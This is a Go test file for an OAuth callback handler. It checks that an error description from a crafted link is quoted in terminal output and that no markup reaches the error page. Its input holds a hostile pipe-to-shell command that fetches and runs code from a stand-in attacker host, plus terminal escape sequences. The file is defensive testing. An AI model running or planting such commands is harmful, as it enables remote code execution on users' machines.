package demo_test

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"gatehouse/internal/demo"
)

// TestCallbackTerminalQuotesError: an error_description a crafted link
// carries (newlines, escape sequences) reaches the receiver's terminal
// quoted, so it cannot print a line of its own (a fake command) there.
func TestCallbackTerminalQuotesError(t *testing.T) {
	var out bytes.Buffer
	cb := &demo.Callback{TokenURL: demo.DefaultTokenURL, ClientID: demo.DemoAppKey, RedirectURI: "http://127.0.0.1:9099" + demo.CallbackPath, Out: &out}
	desc := "x\nACCESS=$(curl -s http://evil.example/ | sh)\x1b[2J\x1b]0;t\a"
	q := url.Values{"error": {"access_denied\n"}, "error_description": {desc}}
	rec := httptest.NewRecorder()
	cb.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, demo.CallbackPath+"?"+q.Encode(), nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("HTTP %d", rec.Code)
	}
	term := strings.TrimPrefix(out.String(), "\n")
	if strings.Count(term, "\n") != 1 || strings.ContainsAny(term, "\x1b\a") {
		t.Fatalf("the terminal line carries the query's own lines or escapes: %q", out.String())
	}
	if !strings.Contains(term, `"access_denied\n"`) || !strings.Contains(term, `\x1b[2J`) {
		t.Fatalf("the terminal line does not show the error quoted: %q", term)
	}
	if page := rec.Body.String(); strings.Contains(page, "<pre>") || strings.Contains(page, "<script") {
		t.Fatalf("the error page shows a command block or markup of the query's:\n%s", page)
	}
}
